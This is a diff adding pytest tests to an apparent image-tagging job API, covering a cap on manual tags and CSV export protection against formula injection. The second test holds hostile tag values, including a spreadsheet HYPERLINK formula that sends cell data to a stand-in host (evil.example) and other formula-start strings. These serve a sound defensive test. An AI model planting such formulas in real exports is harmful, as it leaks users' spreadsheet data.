@@ -165,3 +165,45 @@ def test_dashboard_adds_and_removes_tags_by_hand(tmp_path: Path, redis_url: str,
         assert refused.status_code == 403
         api = httpx.get(f"{srv.url}/v1/jobs/{job_id}/results", headers=api_key.header(key)).json()
         assert _names(api["data"][0]) == [("sea", "model"), ("harbour", "manual")]
+
+
+def test_manual_tags_per_result_are_capped(
+    db_url: str, tmp_path: Path, redis_url: str, serve: type, api_key: Any
+) -> None:
+    settings = Settings(database_url=db_url, broker_url=redis_url, model_name="m", max_manual_tags=5)
+    factory, job_id = finished_job(db_url, [({"images": ["/a.jpg"]}, {"tags": ["sea", "boat"]})])
+    with factory() as s:
+        (item_id,) = s.scalars(select(Item.id).where(Item.job_id == job_id))
+    key = api_key.make(db_url)
+    with serve(create_app(settings)) as srv, httpx.Client(base_url=srv.url, headers=api_key.header(key)) as client:
+        path = f"/v1/jobs/{job_id}/items/{item_id}/tags"
+        assert client.patch(path, json={"add": ["t1", "t2", "t3"], "remove": ["boat"]}).status_code == 200
+        assert client.patch(path, json={"add": ["t1", "t2"], "remove": ["t3"]}).status_code == 200  # edits, not new
+        over = client.patch(path, json={"add": ["t4", "t5"]})
+        assert over.status_code == 409 and over.json()["code"] == "too_many_manual_tags", over.text
+        assert "VLBATCH_MAX_MANUAL_TAGS" in over.json()["detail"]
+        assert client.patch(path, json={"add": ["t4"]}).status_code == 200  # the fifth still fits
+        tags = client.get(f"/v1/jobs/{job_id}/results").json()["data"][0]["tags"]
+        assert [t["tag"] for t in tags] == ["sea", "t1", "t2", "t4"]
+
+
+def test_csv_tags_are_guarded_per_tag_and_read_back_whole(
+    db_url: str, tmp_path: Path, redis_url: str, serve: type, api_key: Any
+) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "rock;roll", "a;=1+1", "-2+3", "back\\slash;", "'q"]
+    settings = Settings(database_url=db_url, broker_url=redis_url, model_name="m")
+    factory, job_id = finished_job(db_url, [({"images": ["/a.jpg"]}, {"tags": ["sea", "@SUM(1)"]})])
+    with factory() as s:
+        (item_id,) = s.scalars(select(Item.id).where(Item.job_id == job_id))
+    key = api_key.make(db_url)
+    with serve(create_app(settings)) as srv, httpx.Client(base_url=srv.url, headers=api_key.header(key)) as client:
+        assert client.patch(f"/v1/jobs/{job_id}/items/{item_id}/tags", json={"add": hostile}).status_code == 200
+        text = client.get(f"/v1/jobs/{job_id}/results.csv").text
+    # Opened with ';' as the separator (many locales' default), no cell may start as a formula.
+    for row in csv.reader(io.StringIO(text), delimiter=";"):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
+    from jobs.exports.csv_writer import tags_of_cell
+
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert tags_of_cell(row["tags"]) == ["sea", "@SUM(1)", *hostile]  # every tag whole, the ';' in them too
